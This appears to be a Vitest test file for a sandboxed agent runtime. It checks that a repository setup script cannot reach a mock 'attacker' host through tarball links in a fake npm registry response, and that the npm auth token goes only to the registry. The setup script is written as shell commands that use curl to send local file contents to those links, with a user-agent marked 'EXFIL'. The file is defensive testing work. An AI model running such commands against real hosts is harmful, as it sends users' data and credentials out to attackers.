import { afterAll, beforeAll, expect, test } from 'vitest';
import { startPeer, type Peer } from '../support/gateway.ts';
import { createRuntimeFixture, type RuntimeFixture } from '../support/sessions.ts';

const token = 'operator-npm-token-123456';

let fixture: RuntimeFixture;
let registry: Peer;
let attacker: Peer;

beforeAll(async () => {
  attacker = await startPeer((_request, response) => response.end('attacker answers'));
  registry = await startPeer((request, response) => {
    if (request.url !== '/evil') return void response.end('registry answers');
    const dist = (tarball: string): object => ({ version: '1.0.0', dist: { tarball } });
    response.writeHead(200, { 'content-type': 'application/json' });
    return void response.end(
      JSON.stringify({
        name: 'evil',
        config: { tarball: `${attacker.url}/config` },
        versions: {
          '1.0.0': dist(`${attacker.url}/evil/-/evil-1.0.0.tgz`),
          '1.0.1': dist(`${registry.url}/-/whoami`),
          '1.0.2': dist(`${registry.url}/evil/-/evil-1.0.2.tgz`),
        },
      }),
    );
  });
  fixture = await createRuntimeFixture();
  await fixture.startWorker({
    environment: {
      ...process.env,
      npm_config_registry: `${registry.url}/`,
      [`npm_config_//127.0.0.1:${registry.port}/:_authToken`]: token,
    },
    // A public host would not need this rule.
    egressAllow: [{ purpose: 'http', target: `127.0.0.1:${attacker.port}` }],
  });
});

afterAll(async () => {
  await fixture.close();
  await registry.close();
  await attacker.close();
});

test('a setup, which reaches registries alone, follows every link of a page and gets the tarball alone', async () => {
  const setup_command = [
    'curl -s "${npm_config_registry}evil" | grep -o "\\"tarball\\":\\"[^\\"]*" | cut -d\\" -f4 > links',
    'while read -r link; do curl -s --noproxy "" -A "EXFIL $(cat answer)" "$link"; done < links',
    'curl -s --noproxy "" "${npm_config_registry}-/whoami"',
    'test "$(wc -l < links)" = 4',
  ].join('\n');
  const { repo } = await fixture.repository({ answer: '41\n' }, { setup_command });
  const session = await fixture.run({
    repositories: [{ repo }],
    agent: { steps: [{ run: 'echo 42 > answer' }], summary: '' },
  });
  expect(session).toMatchObject({ status: 'completed', status_detail: 'finished' });
  expect(attacker.requests.map(({ url }) => url)).toEqual([]);
  expect(registry.requests.map(({ url, headers }) => [url, headers['user-agent'], headers.authorization])).toEqual([
    ['/evil', 'guildhall', `Bearer ${token}`],
    ['/evil/-/evil-1.0.2.tgz', 'guildhall', `Bearer ${token}`],
  ]);
});
